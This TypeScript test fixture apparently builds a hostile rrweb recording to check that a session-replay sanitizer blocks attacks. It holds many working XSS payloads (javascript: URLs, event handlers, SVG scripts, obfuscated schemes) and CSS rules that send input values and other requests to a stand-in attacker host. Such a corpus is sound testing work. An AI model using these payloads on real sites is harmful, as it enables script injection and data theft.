import { element, mutation, type RecordedEvent, snapshot, words } from './recording.ts';

type Node = ReturnType<typeof element>;

/** What every script of the corpus does, if it ever runs. */
export const SCRIPT = "parent.pwned = top.pwned = self.pwned = true; parent.postMessage('pwned', '*')";

/**
 * A recording in which every part that can hold an attack holds one; each tries to run `SCRIPT` or to reach
 * `evil`. Elements that are part of the corpus carry `data-case`.
 */
export function hostileRecording(at: number, evil: string): { events: RecordedEvent[]; cases: number } {
  const link = hostile(
    'a',
    { id: 'link', href: `javascript:${SCRIPT}`, target: '_top', ping: `${evil}/ping` },
    words('link'),
  );
  const frame = hostile('iframe', { src: `${evil}/frame`, srcdoc: `<script>${SCRIPT}</script>` });
  const box = hostile('div', { id: 'box' });
  const image = hostile('img', { alt: '' });
  const style = element('style', {}, words('.box { color: red }'));
  const canvas = hostile('canvas', { width: '10', height: '10' });
  const head = [...headCases(evil), style];
  const body = [
    element('h1', {}, words('Still readable')),
    ...bodyCases(evil),
    ...svgCases(evil),
    ...formCases(evil),
    link,
    frame,
    box,
    image,
    canvas,
  ];
  const events: RecordedEvent[] = [
    ...snapshot(at, head, body),
    ...laterCases(at + 100, evil, { link, frame, box, image }),
    ...rrwebCases(at + 300, evil, { style, box, canvas }),
    mutation(at + 1_000, {}),
  ];
  return { events, cases: JSON.stringify(events).split('"data-case"').length - 1 };
}

function hostile(tag: string, attributes: Record<string, unknown> = {}, ...children: Node[]): Node {
  return element(tag, { 'data-case': tag, ...attributes }, ...children);
}

function svg(tag: string, attributes: Record<string, unknown> = {}, ...children: Node[]): Node {
  return { ...hostile(tag, attributes, ...children), isSVG: true };
}

function headCases(evil: string): Node[] {
  const css = [
    `@import url(${evil}/import.css);`,
    `@font-face { font-family: spy; src: url(${evil}/font.woff2); unicode-range: U+41 }`,
    `body { background: url(${evil}/back.png); font-family: spy; cursor: url(${evil}/cursor.cur), auto }`,
    `input[value^="s"] { background: url(${evil}/exfiltrated?value=s) }`,
    `h1::before { content: url(${evil}/content.svg) } ul { list-style-image: image-set("${evil}/list.png" 1x) }`,
    `div { mask: url(${evil}/mask.svg#m); clip-path: url(${evil}/clip.svg#c); filter: url(${evil}/filter.svg#f) }`,
    '</style><script>top.pwned = true</script>',
  ].join('\n');
  return [
    hostile('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    hostile('meta', { 'HTTP-EQUIV': 'Refresh', content: `0;url=javascript:${SCRIPT}` }),
    hostile('meta', { 'http-equiv': 'Content-Security-Policy', content: `report-uri ${evil}/report` }),
    hostile('base', { href: `${evil}/`, target: '_top' }),
    ...[
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'preload',
      'modulepreload',
      'prerender',
      'stylesheet',
      'icon',
      'manifest',
      'import',
    ].map((rel) => hostile('link', { rel, href: `${evil}/${rel}`, as: 'script' })),
    hostile('style', {}, words(css)),
    hostile('style', {
      _cssText: `@import "${evil}/css-text.css"; html { background: url(${evil}/css-text.png) }`,
    }),
    hostile('script', { src: `${evil}/script.js` }, words(SCRIPT)),
    hostile('script', { type: 'module' }, words(SCRIPT)),
    hostile(
      'script',
      { type: 'speculationrules' },
      words(JSON.stringify({ prerender: [{ urls: [`${evil}/speculated`] }] })),
    ),
    hostile('noscript', {}, words(`<img src=${evil}/noscript.png>`)),
  ];
}

function bodyCases(evil: string): Node[] {
  return [
    hostile('img', { src: `${evil}/pixel.png`, onerror: SCRIPT, onload: SCRIPT }),
    hostile('img', { srcset: `${evil}/1x.png 1x`, src: `javascript:${SCRIPT}`, lowsrc: `${evil}/low.png` }),
    hostile(
      'picture',
      {},
      hostile('source', { srcset: `${evil}/picture.webp` }),
      hostile('img', { src: 'x', onerror: SCRIPT }),
    ),
    hostile(
      'video',
      { src: `${evil}/video.mp4`, poster: `${evil}/poster.png`, autoplay: '', onloadstart: SCRIPT },
      hostile('track', { src: `${evil}/track.vtt`, default: '' }),
    ),
    hostile('audio', { src: `${evil}/audio.mp3`, autoplay: '', onerror: SCRIPT }),
    hostile('object', { data: `${evil}/object.swf`, type: 'text/html', codebase: evil }),
    hostile('object', { data: `data:text/html,<script>${SCRIPT}</script>` }),
    hostile('embed', { src: `${evil}/embed.swf` }),
    hostile('embed', { src: `javascript:${SCRIPT}` }),
    hostile('applet', { code: 'Evil.class', archive: `${evil}/evil.jar` }),
    hostile('iframe', { src: `javascript:${SCRIPT}` }),
    hostile('iframe', { src: `data:text/html,<script>${SCRIPT}</script>` }),
    hostile('iframe', {
      srcdoc: `<img src=x onerror="${SCRIPT}"><meta http-equiv=refresh content="0;url=${evil}/srcdoc">`,
    }),
    hostile('frame', { src: `${evil}/frameset` }),
    hostile('portal', { src: `${evil}/portal` }),
    hostile('fencedframe', { src: `${evil}/fenced` }),
    hostile('details', { open: '', ontoggle: SCRIPT }),
    hostile('div', {
      style: `background: url(${evil}/inline.png)`,
      onmouseover: SCRIPT,
      onanimationstart: SCRIPT,
    }),
    hostile('table', { background: `${evil}/table.png` }),
    hostile('marquee', { onstart: SCRIPT }),
    hostile('a', { href: ` \u0001java\nscript:${SCRIPT}`, target: '_blank' }, words('spaced')),
    hostile('a', { href: `JaVaScRiPt:${SCRIPT}` }, words('cased')),
    hostile(
      'a',
      { href: `data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==`, target: '_top' },
      words('data'),
    ),
    hostile('a', { href: `${evil}/followed`, target: '_top', download: '' }, words('out')),
    hostile('area', { href: `javascript:${SCRIPT}` }),
    hostile('template', {}, hostile('img', { src: `${evil}/template.png`, onerror: SCRIPT })),
  ];
}

function svgCases(evil: string): Node[] {
  return [
    svg(
      'svg',
      { onload: SCRIPT, xmlns: 'http://www.w3.org/2000/svg' },
      svg('script', { href: `${evil}/svg.js` }, words(SCRIPT)),
      svg('image', { href: `${evil}/svg.png`, 'xlink:href': `${evil}/svg.png` }),
      svg('use', { href: `${evil}/sprite.svg#icon` }),
      svg('use', {
        href: `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${SCRIPT}</script></svg>#x`,
      }),
      svg(
        'a',
        { 'xlink:href': `javascript:${SCRIPT}` },
        svg('animate', { attributeName: 'href', values: `javascript:${SCRIPT}` }),
        svg('text', {}, words('svg link')),
      ),
      svg('set', { attributeName: 'onload', to: SCRIPT, onbegin: SCRIPT }),
      svg('feImage', { href: `${evil}/fe.png` }),
      svg('foreignObject', {}, hostile('iframe', { src: `${evil}/foreign` })),
    ),
    {
      ...hostile(
        'math',
        {},
        hostile('maction', { actiontype: 'statusline', 'xlink:href': `javascript:${SCRIPT}` }),
      ),
      isSVG: true,
    },
  ];
}

function formCases(evil: string): Node[] {
  return [
    hostile(
      'form',
      { action: `${evil}/form`, target: '_top', onsubmit: SCRIPT },
      hostile('input', { value: 'secret', name: 's', autofocus: '', onfocus: SCRIPT }),
      hostile('input', { type: 'image', src: `${evil}/input.png`, formaction: `${evil}/image` }),
      hostile(
        'button',
        { type: 'submit', formaction: `javascript:${SCRIPT}`, formtarget: '_top' },
        words('send'),
      ),
    ),
    hostile('isindex', { action: `javascript:${SCRIPT}` }),
  ];
}

/** What only comes while the recording plays. */
function laterCases(
  at: number,
  evil: string,
  nodes: Record<'link' | 'frame' | 'box' | 'image', Node>,
): RecordedEvent[] {
  const { link, frame, box, image } = nodes;
  return [
    mutation(at, {
      adds: [
        { parentId: box.id, node: hostile('script', {}, words(SCRIPT)) },
        { parentId: box.id, node: hostile('iframe', { srcdoc: `<script>${SCRIPT}</script>` }) },
        { parentId: box.id, node: hostile('link', { rel: 'stylesheet', href: `${evil}/later.css` }) },
        { parentId: box.id, node: hostile('style', {}, words(`@import url(${evil}/later-import.css);`)) },
      ],
      attributes: [
        { id: frame.id, attributes: { src: `javascript:${SCRIPT}` } },
        { id: link.id, attributes: { href: ` java\tscript:${SCRIPT}`, onclick: SCRIPT, target: '_top' } },
        {
          id: box.id,
          attributes: { onmouseover: SCRIPT, style: { background: `url(${evil}/style-object.png)` } },
        },
        { id: image.id, attributes: { src: `${evil}/later.png`, onerror: SCRIPT } },
      ],
    }),
  ];
}

/** rrweb's own events that build something: sources of `IncrementalSource`, and events of other kinds. */
function rrwebCases(
  at: number,
  evil: string,
  nodes: Record<'style' | 'box' | 'canvas', Node>,
): RecordedEvent[] {
  const { style, box, canvas } = nodes;
  const incremental = (source: number, data: object): RecordedEvent => ({
    type: 3,
    data: { source, ...data },
    timestamp: at,
  });
  const rule = `body { background: url(${evil}/rule.png) }`;
  return [
    incremental(8, {
      id: style.id,
      adds: [
        { rule: `@import url(${evil}/rule.css);`, index: 0 },
        { rule, index: 0 },
      ],
    }),
    incremental(8, { id: style.id, replaceSync: `@import "${evil}/replaced.css"; ${rule}` }),
    incremental(13, {
      id: style.id,
      index: [0],
      set: { property: 'background', value: `url(${evil}/declared.png)` },
    }),
    incremental(15, { id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule, index: 0 }] }] }),
    incremental(10, { family: 'evil', fontSource: `url(${evil}/added.woff2)`, buffer: false }),
    incremental(9, {
      id: canvas.id,
      type: 0,
      commands: [
        { property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: `${evil}/canvas.png` }, 0, 0] },
      ],
    }),
    incremental(7, { id: box.id, type: 0, currentTime: 0 }),
    incremental(16, { define: { name: 'evil-element' } }),
    { type: 5, data: { tag: 'evil', payload: SCRIPT }, timestamp: at },
    {
      type: 6,
      data: { plugin: 'rrweb/console@1', payload: { level: 'log', payload: [SCRIPT], trace: [] } },
      timestamp: at,
    },
    { type: 4, data: { href: `javascript:${SCRIPT}`, width: 1280, height: 800 }, timestamp: at },
  ];
}
